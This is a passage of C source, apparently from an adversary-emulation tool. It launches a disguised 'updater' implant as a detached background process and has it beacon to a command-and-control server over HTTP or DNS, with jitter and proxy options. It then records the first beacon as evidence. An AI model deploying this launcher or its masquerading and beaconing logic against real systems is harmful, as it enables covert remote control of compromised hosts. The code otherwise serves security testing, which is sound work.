 * "updater", no inherited descriptors.  Returns 0 or -1. */
static int implant_spawn(const char *path, char *const argv[])
{
    pid_t pid = fork(), grand;
    int status = 0;

    if (pid < 0)
        return -1;
    if (pid == 0) {
        sigset_t none;
        int nul;
        setsid();
        grand = fork();
        if (grand != 0)
            _exit(grand < 0 ? 1 : 0);
        sigemptyset(&none);
        sigprocmask(SIG_SETMASK, &none, NULL);
        signal(SIGPIPE, SIG_DFL);
        umask(022);
        if (chdir("/") < 0)
            _exit(127);
        nul = open("/dev/null", O_RDWR);
        if (nul >= 0) {
            dup2(nul, 0);
            dup2(nul, 1);
            dup2(nul, 2);
        }
        closefrom(3);
        execv(path, argv);
        _exit(127);
    }
    if (waitpid(pid, &status, 0) < 0 || !WIFEXITED(status) ||
        WEXITSTATUS(status) != 0)
        return -1;
    return 0;
}

int act_c2_beacon(const act_req *q, act_result *r)
{
    const char *channel = act_param_str(q, "channel", "http");
    const char *proxy = act_param_str(q, "proxy", NULL);
    const char *domain = act_param_str(q, "domain", q->c2_domain);
    int dns = strcmp(channel, "dns") == 0;
    int port = (int)act_param_int(q, "port", 0);
    long long interval = act_param_ms(q, "interval", 60 * SEC);
    long long jitter = act_param_ms(q, "jitter", 0);
    long long count = act_param_int(q, "count", 0);
    long long duration = act_param_ms(q, "duration", IMPLANT_MAX_MS);
    long long stop_at = act_stop_at(q), until, spawned;
    char implant[PATH_MAX], status[PATH_MAX], pidf[PATH_MAX];
    char a_port[16], a_int[24], a_jit[24], a_cnt[24], a_dur[24], a_seed[24];
    char *argv[40];
    json_t *st = NULL;
    long pid = 0;
    int n = 0;

    if (port == 0)
        port = q->c2_port && q->c2_addr && strcmp(q->c2_addr, q->target_addr)
                                               == 0 ? q->c2_port
                                                    : (dns ? 53 : 80);
    json_object_set_new(r->evidence, "channel", json_string(channel));
    json_object_set_new(r->evidence, "c2", json_string(q->target_addr));
    json_object_set_new(r->evidence, "port", json_integer(port));
    if (domain != NULL)
        json_object_set_new(r->evidence, "domain", json_string(domain));
    if (proxy != NULL)
        json_object_set_new(r->evidence, "proxy", json_string(proxy));
    if (act_path(q, ACT_IMPLANT_PATH, implant, sizeof(implant)) < 0 ||
        implant_file(q->root, q->step, "status", status, sizeof(status)) < 0 ||
        implant_file(q->root, q->step, "pid", pidf, sizeof(pidf)) < 0) {
        act_detail(r, "path too long");
        return -1;
    }
    /* The story needs the user to have opened the mail (or a lateral move)
     * first: only then is there an implant to beacon. */
    if (access(implant, X_OK) < 0) {
        act_detail(r, "no implant on this host (%s)", ACT_IMPLANT_PATH);
        return 0;
    }
    /* A new run of the step replaces the old implant process. */
    act_stop(q->root, q->step);
    unlink(status);
    snprintf(a_port, sizeof(a_port), "%d", port);
    snprintf(a_int, sizeof(a_int), "%lld", interval);
    snprintf(a_jit, sizeof(a_jit), "%lld", jitter);
    snprintf(a_cnt, sizeof(a_cnt), "%lld", count);
    snprintf(a_dur, sizeof(a_dur), "%lld", duration);
    snprintf(a_seed, sizeof(a_seed), "%llu", (unsigned long long)q->seed);
    argv[n++] = "updater";
    argv[n++] = "--implant";
    argv[n++] = "--step";
    argv[n++] = (char *)q->step;
    argv[n++] = "--channel";
    argv[n++] = (char *)channel;
    argv[n++] = "--c2";
    argv[n++] = (char *)q->target_addr;
    argv[n++] = "--port";
    argv[n++] = a_port;
    if (domain != NULL) {
        argv[n++] = "--domain";
        argv[n++] = (char *)domain;
    }
    if (proxy != NULL) {
        argv[n++] = "--proxy";
        argv[n++] = (char *)proxy;
    }
    argv[n++] = "--interval";
    argv[n++] = a_int;
    argv[n++] = "--jitter";
    argv[n++] = a_jit;
    argv[n++] = "--count";
    argv[n++] = a_cnt;
    argv[n++] = "--duration";
    argv[n++] = a_dur;
    argv[n++] = "--seed";
    argv[n++] = a_seed;
    if (q->root != NULL && q->root[0] != '\0') {
        argv[n++] = "--root";
        argv[n++] = (char *)q->root;
    }
    argv[n] = NULL;
    if (implant_spawn(implant, argv) < 0) {
        act_detail(r, "cannot start the implant %s", ACT_IMPLANT_PATH);
        return -1;
    }
    /* The first beacon's result, as the implant reports it; an implant
     * that never writes its pid file, or dies first, is not waited for. */
    spawned = act_now_ms();
    until = min_ll(stop_at, spawned + 30 * SEC);
    while (act_now_ms() < until) {
        st = json_load_file(status, 0, NULL);
        if (json_is_object(st))
            break;
        json_decref(st);
        st = NULL;
        pid = read_pid(pidf);
        if ((pid == 0 && act_now_ms() - spawned > 5 * SEC) ||
            (pid > 0 && kill((pid_t)pid, 0) < 0))
            break;
        sleep_until(act_now_ms() + 100);
    }
    if (pid == 0)
        pid = read_pid(pidf);
    if (pid > 0)
        json_object_set_new(r->evidence, "implant_pid", json_integer(pid));
    json_object_set_new(r->evidence, "interval_ms", json_integer(interval));
    if (st == NULL) {
        if (pid > 0 && kill((pid_t)pid, 0) == 0)
            act_detail(r, "implant started (pid %ld) but reported no beacon "
                       "in time", pid);
        else
            act_detail(r, "the implant %s did not start or died before its "
                       "first beacon", ACT_IMPLANT_PATH);
        return 0;
    }
    act_flow_add(r, dns ? "udp" : "tcp",
                 json_string_value(json_object_get(st, "src")),
                 (int)json_integer_value(json_object_get(st, "sport")),
                 json_string_value(json_object_get(st, "dst")),
                 (int)json_integer_value(json_object_get(st, "dport")),
                 json_integer_value(json_object_get(st, "packets")),
                 json_integer_value(json_object_get(st, "bytes")));
    json_object_set(r->evidence, "first_beacon", st);
    r->succeeded = json_is_true(json_object_get(st, "answered"));
    if (r->succeeded)
        act_detail(r, "implant (pid %ld) beacons over %s to %s:%d%s%s every "
                   "%lld ms; the C2 answered (%s %lld)", pid, channel,
                   q->target_addr, port, proxy ? " via proxy " : "",
                   proxy ? proxy : "", interval, dns ? "rcode" : "HTTP",
                   (long long)json_integer_value(json_object_get(st,
                                                                 "status")));
    else
        act_detail(r, "implant (pid %ld) beacons over %s to %s:%d%s%s; the "
                   "first beacon got no answer from the C2 (%s)", pid,
                   channel, q->target_addr, port, proxy ? " via proxy " : "",
                   proxy ? proxy : "",
                   json_string_value(json_object_get(st, "error")));
    json_decref(st);
    return 0;
}
